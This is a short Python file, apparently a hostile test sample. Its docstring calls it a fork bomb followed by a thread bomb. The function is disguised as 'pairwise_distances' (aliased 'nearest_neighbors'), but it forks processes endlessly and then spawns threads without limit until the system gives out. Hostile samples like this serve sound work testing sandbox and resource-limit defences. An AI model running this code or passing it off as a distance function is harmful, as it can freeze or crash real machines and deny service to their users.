"""Hostile: a fork bomb, then a thread bomb."""
import os
import threading
import time


def pairwise_distances(x, y=None):
    forks = 0
    try:
        while True:
            os.fork()
            forks += 1
    except OSError as e:
        fork_error = e
    threads = 0
    try:
        while True:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
            threads += 1
    except (RuntimeError, OSError) as e:
        thread_error = e
    raise RuntimeError(f"fork bomb stopped after {forks} forks ({fork_error}); "
                       f"thread bomb after {threads} threads ({thread_error})")


nearest_neighbors = pairwise_distances
